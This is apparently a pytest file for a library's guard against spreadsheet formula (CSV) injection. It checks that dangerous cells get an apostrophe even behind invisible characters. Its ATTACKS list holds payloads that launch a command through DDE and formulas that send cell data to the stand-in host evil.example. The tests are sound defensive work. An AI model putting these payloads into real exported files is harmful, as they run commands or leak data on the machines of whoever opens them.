import csv
import io

import numpy as np
import pytest

from dpqr.io.outputs.spreadsheet import inert
from dpqr.io.outputs.table_files import write_table
from dpqr.io.outputs.tidy import Texts, Tidy

ATTACKS = (
    "=1+1",
    '=1+1";=1+1',
    "=1+1'\" ;,=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe66" + "1",
    "\ufe62" + "A1",
    "\ufe63" + "A1",
    "\ufe6b" + "A1",
    "\u2212A1",
)
"""OWASP's list (CSV injection), and the signs' other forms."""
BEFORE = (
    *" \t\n\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\xa0\0\x08\x1b\x7f\x9b",
    *"\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000",
    *"\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2069\u061c\u180e\ufeff\xad\ufffe",
    *"\u034f\u115f\u3164\uffa0\u2800\ufe0f",
    "\U000e0020",
    "  ",
    "\ufeff \xa0\t",
    " '",
)
"""What a spreadsheet drops, or does not show."""


@pytest.mark.parametrize(
    "text", ["=1+1", "+cmd", "-a", "@SUM(A1)", "\tx", "\rx", "\nx", "-5 <= age", "--1", "\uff1d1", "="]
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-1", "+2.5", "-1e-9", "1", ".5", "<= 30", "[-5, 10)", "F", "", "a=b", "'tis", "(null)"]
)
def test_numbers_and_harmless_labels_stay(text):
    assert inert(text) == text


def test_labels_stay_distinct_and_can_be_restored():
    labels = ["=x", "'=x", "''=x", "x", "'x", "-1", "'-1"]
    written = [inert(label) for label in labels]
    assert len(set(written)) == len(labels)
    assert written[:3] == ["'=x", "''=x", "'''=x"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_found_behind_whatever_does_not_show(attack):
    assert inert(attack) == "'" + attack
    for before in BEFORE:
        assert inert(before + attack) == "'" + before + attack
        assert inert("'" + before + attack) == "''" + before + attack


@pytest.mark.parametrize("label", [" F", "\xa0[0, 10)", "a =1", "\ufeffyes", "1-2", "", " ", "(=)", "''"])
def test_white_space_alone_is_no_formula(label):
    assert inert(label) == label


@pytest.mark.parametrize("attack", [*ATTACKS, *(before + "=1+1" for before in BEFORE)])
def test_in_a_file_the_cell_is_one_cell_and_no_formula(tmp_path, attack):
    path = tmp_path / "t.csv"
    write_table(Tidy(2, {attack: Texts(np.array([0, 1]), [attack, "plain"]), "x": np.array([1, 2])}), path, "csv")
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(io.StringIO(file.read(), newline="")))
    assert rows == [["'" + attack, "x"], ["'" + attack, "1"], ["plain", "2"]]
